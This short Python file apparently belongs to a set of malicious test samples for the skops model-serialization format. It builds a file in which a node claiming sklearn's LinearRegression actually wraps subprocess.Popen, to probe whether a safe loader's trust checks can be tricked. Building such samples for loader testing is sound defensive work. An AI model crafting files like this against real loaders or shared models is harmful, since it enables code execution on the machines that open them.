"""MethodNode names a trusted class and holds an object of another."""

from __future__ import annotations

from malicious_samples.recipes import node, skops


def build(canary: str) -> bytes:
    del canary
    inner = node("ObjectNode", "subprocess", "Popen")
    content = {"func": "communicate", "obj": inner}
    return skops(
        node("MethodNode", "sklearn.linear_model._base", "LinearRegression", content=content)
    )
